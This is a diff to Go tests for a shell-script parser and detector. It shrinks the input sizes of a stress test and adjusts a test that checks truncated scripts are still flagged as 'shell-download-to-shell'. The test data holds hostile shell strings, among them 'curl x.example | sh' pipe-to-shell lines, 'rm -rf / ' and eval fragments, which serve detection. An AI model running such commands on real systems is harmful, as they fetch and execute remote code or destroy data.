@@ -11,20 +11,17 @@ import (
 // TestHostile: no text makes the parser go down too deep, or the reader go
 // round for long; what is too much is an error.
 func TestHostile(t *testing.T) {
-	size := 10 << 20
-	if testing.Short() {
-		size = 1 << 20
-	}
+	const size = 1 << 18
 	for _, unit := range []string{
 		"(", "$(", "`", "\"$(", "${a:-", "$((", "$((-", "$((1?", "$((a=", "$((1**", "if ", "while ", "{ ", "f()", "a&&", "a|", "[[ ! ", "case a in a) ",
 		"<<a\n", "<<'a' ", "'", "\"", "\\", "a=$a$a;", "eval 'eval ", "sh -c \"", "}\n", ")\n", "fi\n", "<(", "{a,b}", "é", "\xff", "\x00", "\x01",
 		"curl x|sh\n", "cat <<E|sh\nE\n", "x=`echo $x$x`;", "for a in b; do ", "time ", "let -", "a[", "#\n", "rm -rf / ", "$'", "echo (\n",
 	} {
-		check(t, strings.Repeat(unit, size/len(unit)/4))
+		check(t, strings.Repeat(unit, size/len(unit)))
 	}
-	check(t, "[[ "+strings.Repeat("a || ", size/20))
-	check(t, "$(("+strings.Repeat("- ", size/10))
-	check(t, "let "+strings.Repeat("-", size/4))
+	check(t, "[[ "+strings.Repeat("a || ", size/5))
+	check(t, "$(("+strings.Repeat("- ", size/2))
+	check(t, "let "+strings.Repeat("-", size))
 }
 
 // TestQuine: a script that grows when it is read ends.
@@ -47,7 +44,7 @@ func TestCut(t *testing.T) {
 		"cat <<EOF\nnever ends\n$(curl x.example | sh)\n",
 		"x=(1 2\ncurl x.example | sh",
 		"curl x.example | sh )",
-		"echo \"a\ncurl x.example | sh\n",
+		"echo \"a\n\ncurl x.example | sh\n",
 	} {
 		if got := kinds(t, text); len(got) == 0 || got[0] != "shell-download-to-shell" {
 			t.Errorf("%q: %q", text, got)
